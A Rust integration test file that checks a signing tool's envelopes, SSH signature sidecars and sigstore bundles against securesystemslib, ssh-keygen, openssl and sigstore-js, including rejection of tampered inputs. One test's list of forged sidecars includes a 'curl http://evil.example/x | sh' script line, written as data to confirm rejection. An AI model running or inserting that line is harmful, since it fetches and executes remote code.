//! Interop with third-party verifiers (cases 32–37 of the adversarial suite), run for real in CI
//! (`CI` set: a missing tool is a failure) and reported as ignored, with the reason, where a tool
//! was missing when `secfw-testkit` was built (`secfw_testkit::interop_test!`).
//!
//! Needs: the interop venv (securesystemslib >= 1.6, in-toto-attestation, rfc8785,
//! cryptography), `ssh-keygen` (openssh-client) and `openssl` (>= 3.0).

mod common;
use common::*;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use secfw_seal::dsse::{b64_decode, b64_encode, pae};
use secfw_seal::{SignOptions, SigningKey, sign_manifest, sshsig};
use serde_json::json;

fn need(tool: &str) -> PathBuf {
    secfw_testkit::tool(tool).unwrap_or_else(|| panic!("`{tool}` not on PATH (scripts/interop-tools installs it)"))
}

fn need_python() -> PathBuf {
    secfw_testkit::python().expect("the interop venv (scripts/interop-tools creates it)")
}

fn script() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/interop/verify_sslib.py")
}

fn run(cmd: &mut Command) -> (bool, String) {
    let out = cmd.output().unwrap();
    (out.status.success(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
}

fn run_stdin(cmd: &mut Command, input: &[u8]) -> (bool, String) {
    use std::io::Write as _;
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    // A tool that refuses before reading its input (an unparsable signature) closes the pipe:
    // its exit status is the answer, not the write error.
    if let Err(e) = child.stdin.take().unwrap().write_all(input) {
        assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
    }
    let out = child.wait_with_output().unwrap();
    (out.status.success(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
}

secfw_testkit::interop_test! { [python]
    fn case32_securesystemslib_and_in_toto_attestation_verify_per_role_and_reject_tampering() {
        let py = need_python();
        let (t, dir, tp) = sealed(2);
        let trust_file = t.path().join("trust.json");
        fs::write(&trust_file, tp.to_json()).unwrap();
        let env_file = dir.join("handoff.intoto.json");
        let (ok, out) = run(Command::new(&py).arg(script()).arg(&env_file).arg(&trust_file).arg(&dir));
        assert!(ok, "{out}");
        assert!(out.starts_with("OK"), "{out}");
        // tampered payload
        let mut env = envelope(&dir);
        let mut body = b64_decode(env["payload"].as_str().unwrap()).unwrap();
        let i = body.len() - 10;
        body[i] ^= 1;
        env["payload"] = json!(b64_encode(&body));
        let bad = t.path().join("tampered.json");
        fs::write(&bad, serde_json::to_vec(&env).unwrap()).unwrap();
        let (ok, out) = run(Command::new(&py).arg(script()).arg(&bad).arg(&trust_file).arg(&dir));
        assert!(!ok, "tampered envelope must fail: {out}");
        // threshold 2 with only one approver
        let (_t2, dir2) = workspace();
        generate(&dir2);
        sign(&dir2, &tp, &prep(), "preparer");
        sign(&dir2, &tp, &app1(), "approver-1");
        let (ok, out) =
            run(Command::new(&py).arg(script()).arg(dir2.join("handoff.intoto.json")).arg(&trust_file).arg(&dir2));
        assert!(!ok, "1 of 2 approvers must fail: {out}");
        // a tampered evidence file fails the subject match
        let ev = dir.join("evidence/pentest-2026-q3-summary.md");
        fs::write(&ev, "changed").unwrap();
        let (ok, _) = run(Command::new(&py).arg(script()).arg(&env_file).arg(&trust_file).arg(&dir));
        assert!(!ok);
    }
}

secfw_testkit::interop_test! { [python]
    fn case38_securesystemslib_verifies_the_signed_trust_chain_and_rejects_an_unauthorized_rotation() {
        let py = need_python();
        let (t, dir, tp) = sealed(1);
        let mut chain = signed_chain(&tp);
        let new_root = key(10);
        chain
            .edit(|p| {
                p.add_root_key(new_root.public(), "new-root")?;
                p.remove_root_key(&root_key().public().keyid())
            })
            .unwrap();
        chain.sign(&new_root).unwrap();
        let trust_file = t.path().join("trust.json");
        let env_file = dir.join("handoff.intoto.json");
        // version 2 signed by its own new root only: secfw and securesystemslib both refuse it
        fs::write(&trust_file, chain.to_json()).unwrap();
        assert!(chain.verify(now(), None).is_err());
        let (ok, out) = run(Command::new(&py).arg(script()).arg(&env_file).arg(&trust_file).arg(&dir).arg("--trust-only"));
        assert!(!ok, "a rotation not signed by the previous root must fail: {out}");
        // signed by the previous root too: both accept it, and the manifest verifies under it
        chain.sign(&root_key()).unwrap();
        assert!(chain.verify(now(), None).is_ok());
        fs::write(&trust_file, chain.to_json()).unwrap();
        let (ok, out) = run(Command::new(&py).arg(script()).arg(&env_file).arg(&trust_file).arg(&dir));
        assert!(ok, "{out}");
    }
}

/// Sealed workspace with SSHSIG sidecars from the preparer and approver-1.
fn sealed_with_sidecars() -> (tempfile::TempDir, PathBuf, secfw_seal::TrustPolicy) {
    let (t, dir) = workspace();
    let tp = trust(1);
    generate(&dir);
    for (k, id) in [(prep(), "preparer"), (app1(), "approver-1")] {
        let s = sign_manifest(&manifest(&dir), &tp, &k, &SignOptions::new(id, vopts()).sshsig(true)).unwrap();
        assert!(s.sidecar.unwrap().exists());
    }
    assert!(verify(&dir, &tp).passed());
    (t, dir, tp)
}

secfw_testkit::interop_test! { [ssh_keygen]
    fn case33_ssh_keygen_verifies_sidecars_and_rejects_wrong_namespace_principal_or_input() {
        let ssh = need("ssh-keygen");
        let (t, dir, tp) = sealed_with_sidecars();
        let allowed = t.path().join("allowed_signers");
        fs::write(&allowed, tp.allowed_signers(sshsig::NAMESPACE)).unwrap();
        let stmt = payload(&dir);
        let sig = dir.join(format!("handoff.statement.json.{}.sig", prep().public().keyid().chars().take(8).collect::<String>()));
        let verify = |principal: &str, ns: &str, input: &[u8]| {
            run_stdin(
                Command::new(&ssh)
                    .args(["-Y", "verify", "-f"])
                    .arg(&allowed)
                    .args(["-I", principal, "-n", ns, "-s"])
                    .arg(&sig),
                input,
            )
        };
        let (ok, out) = verify("preparer", sshsig::NAMESPACE, &stmt);
        assert!(ok && out.contains("Good"), "{out}");
        assert!(!verify("preparer", "other@secfw", &stmt).0, "wrong namespace");
        assert!(!verify("approver-1", sshsig::NAMESPACE, &stmt).0, "wrong principal");
        let mut tampered = stmt.clone();
        tampered[20] ^= 1;
        assert!(!verify("preparer", sshsig::NAMESPACE, &tampered).0, "tampered input");
        let (ok, out) =
            run_stdin(Command::new(&ssh).args(["-Y", "check-novalidate", "-n", sshsig::NAMESPACE, "-s"]).arg(&sig), &stmt);
        assert!(ok, "{out}");
    }
}

secfw_testkit::interop_test! { [ssh_keygen]
    fn case33b_ssh_keygen_and_secfw_agree_on_sidecars() {
        let ssh = need("ssh-keygen");
        let (t, dir, tp) = sealed_with_sidecars();
        let allowed = t.path().join("allowed_signers");
        fs::write(&allowed, tp.allowed_signers(sshsig::NAMESPACE)).unwrap();
        let stmt = payload(&dir);
        let name = format!("handoff.statement.json.{}.sig", prep().public().keyid().get(..8).unwrap());
        let sig = dir.join(&name);
        let ssh_verify = |principal: &str| {
            run_stdin(
                Command::new(&ssh)
                    .args(["-Y", "verify", "-f"])
                    .arg(&allowed)
                    .args(["-I", principal, "-n", sshsig::NAMESPACE, "-s"])
                    .arg(&sig),
                &stmt,
            )
        };
        // Every sidecar secfw accepts verifies with stock OpenSSH.
        let r = verify(&dir, &tp);
        assert!(r.passed() && r.check(secfw_seal::CheckName::Sidecars).is_some_and(|c| c.passed));
        let (ok, out) = ssh_verify("preparer");
        assert!(ok && out.contains("Good"), "{out}");
        // The attacks secfw refuses, OpenSSH refuses too.
        let good = fs::read(&sig).unwrap();
        let mut other = stmt.clone();
        other.push(b'\n');
        let attacks: Vec<(&str, Vec<u8>)> = vec![
            ("script", b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec()),
            ("forged armour", b"-----BEGIN SSH SIGNATURE-----\nforged\n-----END SSH SIGNATURE-----\n".to_vec()),
            ("truncated", good[..good.len() / 2].to_vec()),
            ("wrong namespace", sshsig::sign(&prep(), "file", &stmt).into_bytes()),
            ("other statement", sshsig::sign(&prep(), sshsig::NAMESPACE, &other).into_bytes()),
            ("another signer's", sshsig::sign(&app2(), sshsig::NAMESPACE, &stmt).into_bytes()),
        ];
        for (what, bytes) in attacks {
            fs::write(&sig, &bytes).unwrap();
            let r = verify(&dir, &tp);
            assert_eq!(r.failed_names(), vec!["sidecars"], "{what}: secfw");
            assert!(!ssh_verify("preparer").0, "{what}: ssh-keygen accepted what secfw refuses");
        }
        fs::write(&sig, &good).unwrap();
        // A sidecar made by `ssh-keygen -Y sign` with an OpenSSH key of a trusted signer is
        // the same file secfw writes, and is accepted.
        let k = t.path().join("id");
        let (ok, out) = run(Command::new(&ssh).args(["-q", "-t", "ed25519", "-N", "", "-C", "t", "-f"]).arg(&k));
        assert!(ok, "{out}");
        let theirs = SigningKey::parse(&fs::read_to_string(&k).unwrap()).unwrap();
        let mut tp2 = secfw_seal::TrustPolicy::new(now() + chrono::Duration::days(365));
        tp2.add_key(secfw_seal::SigningRole::PreparedBy, theirs.public(), "preparer").unwrap();
        tp2.add_key(secfw_seal::SigningRole::ApprovedBy, app1().public(), "approver-1").unwrap();
        tp2.set_threshold(secfw_seal::SigningRole::ApprovedBy, 1).unwrap();
        let (_t2, dir2) = workspace();
        generate(&dir2);
        sign(&dir2, &tp2, &theirs, "preparer");
        sign(&dir2, &tp2, &app1(), "approver-1");
        let (ok, out) = run(
            Command::new(&ssh).args(["-Y", "sign", "-n", sshsig::NAMESPACE, "-f"]).arg(&k).arg(dir2.join("handoff.statement.json")),
        );
        assert!(ok, "{out}");
        let made = dir2.join("handoff.statement.json.sig");
        let sidecar = dir2.join(format!("handoff.statement.json.{}.sig", theirs.public().keyid().get(..8).unwrap()));
        fs::rename(&made, &sidecar).unwrap();
        let r = verify(&dir2, &tp2);
        assert!(r.passed(), "{:?}", r.failed_names());
        assert_eq!(r.check(secfw_seal::CheckName::Sidecars).unwrap().detail, "1 sidecar(s) verify");
    }
}

fn dsse_pae_and_sig(dir: &Path, i: usize) -> (Vec<u8>, Vec<u8>) {
    let env = envelope(dir);
    let body = b64_decode(env["payload"].as_str().unwrap()).unwrap();
    let sig = b64_decode(env["signatures"][i]["sig"].as_str().unwrap()).unwrap();
    (pae(env["payloadType"].as_str().unwrap(), &body), sig)
}

secfw_testkit::interop_test! { [openssl]
    fn case34_openssl_pkeyutl_verifies_the_pae_signature_and_rejects_tampering() {
        let openssl = need("openssl");
        let (t, dir, _) = sealed(1);
        let (pae_bytes, sig) = dsse_pae_and_sig(&dir, 0);
        let pub_pem = t.path().join("pub.pem");
        fs::write(&pub_pem, prep().public().to_spki_pem()).unwrap();
        let pae_file = t.path().join("pae");
        let sig_file = t.path().join("sig");
        fs::write(&pae_file, &pae_bytes).unwrap();
        fs::write(&sig_file, &sig).unwrap();
        let verify = |input: &Path| {
            run(Command::new(&openssl)
                .args(["pkeyutl", "-verify", "-rawin", "-pubin", "-inkey"])
                .arg(&pub_pem)
                .arg("-in")
                .arg(input)
                .arg("-sigfile")
                .arg(&sig_file))
        };
        let (ok, out) = verify(&pae_file);
        assert!(ok && out.contains("Signature Verified Successfully"), "{out}");
        let mut bad = pae_bytes;
        let n = bad.len() - 3;
        bad[n] ^= 1;
        let bad_file = t.path().join("pae-bad");
        fs::write(&bad_file, bad).unwrap();
        assert!(!verify(&bad_file).0);
    }
}

secfw_testkit::interop_test! { [ssh_keygen, openssl]
    fn case35_byte_equal_to_ssh_keygen_sign_and_openssl_pkeyutl_sign() {
        let (ssh, openssl) = (need("ssh-keygen"), need("openssl"));
        let t = tempfile::tempdir().unwrap();
        // OpenSSH key → our SSHSIG == ssh-keygen -Y sign
        let k = t.path().join("id");
        let (ok, out) = run(Command::new(&ssh).args(["-q", "-t", "ed25519", "-N", "", "-C", "t", "-f"]).arg(&k));
        assert!(ok, "{out}");
        let msg = t.path().join("msg");
        fs::write(&msg, b"{\"_type\":\"https://in-toto.io/Statement/v1\"}").unwrap();
        let (ok, out) = run(Command::new(&ssh).args(["-Y", "sign", "-n", sshsig::NAMESPACE, "-f"]).arg(&k).arg(&msg));
        assert!(ok, "{out}");
        let theirs = fs::read_to_string(t.path().join("msg.sig")).unwrap();
        let ours_key = SigningKey::parse(&fs::read_to_string(&k).unwrap()).unwrap();
        assert_eq!(sshsig::sign(&ours_key, sshsig::NAMESPACE, &fs::read(&msg).unwrap()), theirs);
        // OpenSSL key → our DSSE signature == openssl pkeyutl -sign -rawin
        let pem = t.path().join("k.pem");
        let (ok, out) = run(Command::new(&openssl).args(["genpkey", "-algorithm", "ed25519", "-out"]).arg(&pem));
        assert!(ok, "{out}");
        let key = SigningKey::parse(&fs::read_to_string(&pem).unwrap()).unwrap();
        let pae_bytes = pae(secfw_seal::PAYLOAD_TYPE, b"{\"a\":1}");
        let pae_file = t.path().join("pae");
        fs::write(&pae_file, &pae_bytes).unwrap();
        let sig_file = t.path().join("sig");
        let (ok, out) = run(Command::new(&openssl)
            .args(["pkeyutl", "-sign", "-rawin", "-inkey"])
            .arg(&pem)
            .arg("-in")
            .arg(&pae_file)
            .arg("-out")
            .arg(&sig_file));
        assert!(ok, "{out}");
        assert_eq!(fs::read(&sig_file).unwrap(), key.sign(&pae_bytes).to_vec());
    }
}

secfw_testkit::interop_test! { [openssl, python]
    fn case36_exported_pkcs8_v1_and_spki_are_read_by_openssl_and_cryptography() {
        let openssl = need("openssl");
        let t = tempfile::tempdir().unwrap();
        let k = key(42);
        let priv_pem = t.path().join("k.pem");
        fs::write(&priv_pem, k.to_pkcs8_pem()).unwrap();
        let (ok, out) = run(Command::new(&openssl).args(["pkey", "-pubout", "-in"]).arg(&priv_pem));
        assert!(ok, "{out}");
        assert_eq!(out, k.public().to_spki_pem());
        let pub_pem = t.path().join("p.pem");
        fs::write(&pub_pem, k.public().to_spki_pem()).unwrap();
        let (ok, out) = run(Command::new(&openssl).args(["pkey", "-pubin", "-noout", "-text", "-in"]).arg(&pub_pem));
        assert!(ok && out.contains("ED25519"), "{out}");
        let py = need_python();
        let code = "import sys\nfrom cryptography.hazmat.primitives import serialization as s\n\
    k = s.load_pem_private_key(open(sys.argv[1],'rb').read(), None)\n\
    p = s.load_pem_public_key(open(sys.argv[2],'rb').read())\n\
    raw = lambda x: x.public_bytes(s.Encoding.Raw, s.PublicFormat.Raw).hex()\n\
    assert raw(k.public_key()) == raw(p)\nprint(raw(p))\n";
        let (ok, out) = run(Command::new(&py).arg("-c").arg(code).arg(&priv_pem).arg(&pub_pem));
        assert!(ok, "{out}");
        assert_eq!(out.trim(), k.public().to_hex());
    }
}

secfw_testkit::interop_test! { [sigstore_js]
    fn case37_sigstore_bundles_verify_with_sigstore_js_and_a_two_signature_bundle_is_rejected() {
        let (node, modules) = secfw_testkit::sigstore_js().expect("node with @sigstore/verify (scripts/interop-tools)");
        let (t, dir, _) = sealed(1);
        let out = t.path().join("bundles");
        let written = secfw_seal::sigstore::write_bundles(&manifest(&dir), &out).unwrap();
        assert_eq!(written.len(), 2, "one bundle per signature (prepared_by + one approval)");
        let js = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/interop/verify_sigstore.js");
        let keys = all_keys();
        let spki_of = |bundle: &Path| {
            let v: serde_json::Value = serde_json::from_slice(&fs::read(bundle).unwrap()).unwrap();
            let hint = v["verificationMaterial"]["publicKey"]["hint"].as_str().unwrap().to_owned();
            let k = keys.iter().find(|k| k.public().keyid() == hint).expect("a known signer");
            hex::encode(k.public().to_spki_der())
        };
        let check = |bundle: &Path, spki: &str, mode: &str| {
            run(Command::new(&node).env("NODE_PATH", &modules).arg(&js).arg(bundle).arg(spki).arg(mode))
        };
        for b in &written {
            let (ok, msg) = check(b, &spki_of(b), "");
            assert!(ok, "{}: {msg}", b.display());
        }
        // A tampered payload and a wrong key are refused.
        let v: serde_json::Value = serde_json::from_slice(&fs::read(&written[0]).unwrap()).unwrap();
        let mut bad = v.clone();
        let body = b64_decode(v["dsseEnvelope"]["payload"].as_str().unwrap()).unwrap();
        let mut tampered = body;
        tampered[10] ^= 1;
        bad["dsseEnvelope"]["payload"] = json!(b64_encode(&tampered));
        let bad_path = t.path().join("tampered.json");
        fs::write(&bad_path, serde_json::to_vec(&bad).unwrap()).unwrap();
        assert!(!check(&bad_path, &spki_of(&written[0]), "").0, "tampered payload refused");
        assert!(!check(&written[0], &spki_of(&written[1]), "").0, "wrong key refused");
        // A bundle with two signatures is rejected by the bundle validator (one signature each).
        let mut two = v;
        let other: serde_json::Value = serde_json::from_slice(&fs::read(&written[1]).unwrap()).unwrap();
        two["dsseEnvelope"]["signatures"].as_array_mut().unwrap().push(other["dsseEnvelope"]["signatures"][0].clone());
        let two_path = t.path().join("two.json");
        fs::write(&two_path, serde_json::to_vec(&two).unwrap()).unwrap();
        let (ok, msg) = check(&two_path, &spki_of(&written[0]), "expect-invalid-bundle");
        assert!(ok, "{msg}");
    }
}
